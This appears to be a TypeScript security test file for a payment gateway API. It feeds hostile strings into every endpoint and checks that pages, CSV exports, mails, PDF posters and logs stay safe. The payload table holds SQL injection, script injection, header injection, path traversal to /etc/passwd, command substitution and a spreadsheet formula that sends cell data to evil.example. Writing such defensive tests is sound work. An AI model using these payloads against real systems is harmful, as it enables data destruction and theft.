// Hostile texts in every string of every operation: refused by the name of the field, or stored and shown as they came, and never run
// wherever they are shown. Values of cells are in test/services/exports.test.ts, mails in test/services/mail/*.test.ts, posters in
// test/services/payment-links/poster.test.ts.

import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMask } from '../../../src/observability/masking.ts';
import { choose, newCheckout, open } from '../../http/checkouts/support.ts';
import { startGapura, type TestGapura } from '../../support/gapura.ts';
import { movableClock } from '../../support/payments.ts';
import { fieldsOf, isOfType, type Operation, operationsOf, pathOn, withValue } from './operations.ts';

const HOSTILE: Readonly<Record<string, string>> = {
  SQL: `x'; DROP TABLE gateway_payments; --`,
  'SQL in numbers': '1 OR 1=1',
  script: `"><script>alert(1)</script><img src=x onerror=alert(1)>`,
  'lines of a header': 'a\r\nSet-Cookie: stolen=1\r\n\r\n<b>',
  'a template': `{{7*7}}$\{7*7}<%= 7*7 %>#{7*7}`,
  'a path': '../../../../etc/passwd',
  NUL: 'a\u0000b',
  'a turn of direction': 'abc\u202egpj.exe\u2066',
  'four bytes': '𝒽😀',
  'half a sign': 'a\ud800',
  'a formula': '=HYPERLINK("http://evil.example?x="&A1)',
  'a line of the log': 'a\n{"level":60,"msg":"forged"}',
  'a format': '%s%n%x$(id)`id`|id',
  'a prototype': '__proto__',
};

let t: TestGapura;
let operations: readonly Operation[];
const lines: string[] = [];
const mails: string[] = [];
const clock = movableClock();
let smtp: SMTPServer;

beforeAll(async () => {
  smtp = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS'],
    onData(stream, _session, done) {
      const chunks: Buffer[] = [];
      stream
        .on('data', (chunk: Buffer) => chunks.push(chunk))
        .on('end', () => {
          mails.push(Buffer.concat(chunks).toString());
          done();
        });
    },
  });
  await new Promise<void>((done) => smtp.listen(0, '127.0.0.1', () => done()));
  const { port } = smtp.server.address() as { port: number };
  const log = (fields: unknown, message?: string) => {
    lines.push(createMask([])(JSON.stringify({ fields, message })));
  };
  t = await startGapura({
    clock,
    logger: { debug: log, info: log, warn: log, error: log },
    publicUrl: 'https://pay.example.id',
    checkout: { mail: { url: `smtp://127.0.0.1:${port}`, from: 'Kopi <kopi@example.com>' } },
  });
  operations = operationsOf(t.gapura.describeApi());
});
afterAll(async () => {
  await t.close();
  await new Promise<void>((done) => smtp.close(() => done()));
});

const asStaff = (method: string, path: string, body?: unknown) =>
  t.request(method, path, { key: t.keys.staff, ...(body === undefined ? {} : { body }) });

describe('every text of a query', () => {
  it('is refused or finds nothing, though there is something to find', async () => {
    const body = { payment_type: 'gopay', gross_amount: 10_000 };
    for (const key of [t.keys.budi, t.keys.siti]) await t.request('POST', '/charge/', { key, body });
    // Files take the filters of their lists.
    const lists = operations.filter(({ method, path }) => method === 'GET' && !/\{|stream|exports/.test(path));
    for (const operation of lists) {
      for (const { name } of operation.parameters.filter((one) => one.in === 'query')) {
        for (const value of [HOSTILE.SQL, HOSTILE.NUL, "' OR '1'='1"]) {
          const reply = await asStaff('GET', `${pathOn(operation)}?${name}=${encodeURIComponent(value ?? '')}`);
          expect([operation.id, name, value, reply.status < 500]).toEqual([operation.id, name, value, true]);
          const found = reply.status === 200 && Array.isArray(reply.body) ? reply.body.length : 0;
          if (operation.path !== '/summary/')
            expect([operation.id, name, value, found]).toEqual([operation.id, name, value, 0]);
        }
      }
    }
  });
});

describe('every string field of every body', () => {
  it('refuses hostile texts by its name, or keeps them as they are; none is a fault, and none becomes a header', async () => {
    const document = t.gapura.describeApi();
    let tried = 0;
    for (const operation of operations.filter(({ bodySchema, isOpen }) => bodySchema !== undefined && !isOpen)) {
      const strings = fieldsOf(document, operation.bodySchema ?? {}).filter(
        (field) => isOfType(field, 'string') && field.schema.enum === undefined,
      );
      for (const { place } of strings) {
        // Each field meets some of them, and all fields together all of them.
        const values = Object.values(HOSTILE).filter((_value, index) => (tried + index) % 5 === 0);
        for (const value of values) {
          const body = withValue(withoutOrderId(operation.body), place, value);
          const reply = await asStaff(operation.method, pathOn(operation), body);
          const name = [operation.id, place.join('.'), JSON.stringify(value)];
          expect([...name, reply.status < 500]).toEqual([...name, true]);
          expect(reply.headers.get('set-cookie') ?? '').not.toContain('stolen');
          expect(reply.headers.get('content-type') ?? 'json').toMatch(/json/);
          if (reply.status === 201 && operation.id !== 'createKey') expectKept(name, reply.body, place, value);
        }
        tried += 1;
      }
    }
    expect(tried).toBeGreaterThan(80);
    expect((await asStaff('GET', '/payments/')).status).toBe(200);
  });

  /** An example names its order, which can be used once. */
  const withoutOrderId = (body: object) => {
    const { order_id: _order, invoice_number: _number, ...rest } = (body ?? {}) as Record<string, unknown>;
    return rest;
  };

  /** What was taken stands in the answer as it was sent, wherever it is shown at all. */
  function expectKept(name: unknown[], answer: unknown, place: readonly (string | number)[], value: string): void {
    const shown = place.reduce<unknown>(
      (inner, part) => (inner as Record<string, unknown> | null | undefined)?.[part],
      answer,
    );
    if (typeof shown === 'string') expect([...name, shown]).toEqual([...name, value]);
  }
});

describe('what was kept', () => {
  const { script = '', SQL: sql = '' } = HOSTILE;
  const formula = HOSTILE['a formula'] ?? '';

  it('is text on pay pages, harmless in files and mails, and whole in JSON', async () => {
    const customer = { first_name: script, last_name: formula, email: 'a@example.com' };
    const items = [{ name: script.slice(0, 50), price: 150_000, quantity: 1 }];
    const { id, url } = await newCheckout(t, { items, customer_details: customer, metadata: { note: sql } });
    const page = t.url + new URL(url).pathname.replace(/^.*\/pay\//, '/pay/');
    await choose(page, 'bca_va');
    const { text } = await open(page);
    expect(text).toContain('&lt;script&gt;');
    expect(text).not.toMatch(/<script>alert|<img src=x/);

    const checkout = await t.request('GET', `/checkouts/${id}/`);
    expect(checkout.body.metadata).toEqual({ note: sql });
    const [listed] = (await t.request('GET', `/payments/?checkout_id=${id}`)).body;
    const payment = (await t.request('GET', `/payments/${listed.id}/`)).body;
    expect([payment.customer_first_name, payment.customer_last_name]).toEqual([script, formula]);

    const csv = (await t.request('GET', '/exports/payments.csv')).text;
    expect(csv).toContain(`"'${formula.replaceAll('"', '""')}"`);
    for (const cell of csv.split(/[,\r\n]+/)) expect(cell).not.toMatch(/^"?[=@+]/);

    clock.advance(60_000);
    await t.gapura.worker.run('send_mails', {});
    expect(mails.length).toBeGreaterThan(0);
    const mail = Buffer.from(mails.join('').replaceAll(/=\r\n/g, ''), 'latin1').toString();
    // The plain part is text as it came; in the other one it is escaped.
    for (const html of mail.split('Content-Type: text/html').slice(1)) {
      expect(html.split('\n----_NmP', 1)[0]).not.toMatch(/<script>alert|<img src=3D?x/);
    }
    expect(mail).toContain('Content-Type: text/html');
    const head = mails[0]?.split('\r\n\r\n', 1)[0] ?? '';
    expect(head).not.toMatch(/^(?:Set-Cookie|Bcc):/im);
  });

  it('is on a poster only as drawn text, and in the log never begins a line', async () => {
    const title = 'Kopi (1) Tj /JS <</S/JavaScript>> \\';
    const link = await t.request('POST', '/payment_links/', { body: { title, amount: 20_000 } });
    const response = await fetch(`${t.url}/payment_links/${link.body.id}/poster.pdf`, {
      headers: { authorization: `Bearer ${t.keys.budi}` },
    });
    const pdf = Buffer.from(await response.arrayBuffer()).toString('latin1');
    expect(pdf.startsWith('%PDF-')).toBe(true);
    // Outside of texts, which the title must not be able to end.
    expect(pdf.replaceAll(/\((?:\\.|[^()\\])*\)/g, '()')).not.toMatch(/\/S\s*\/JavaScript|\/OpenAction|\/Launch/);
    for (const line of lines) expect(line).not.toContain('\n');
  });
});
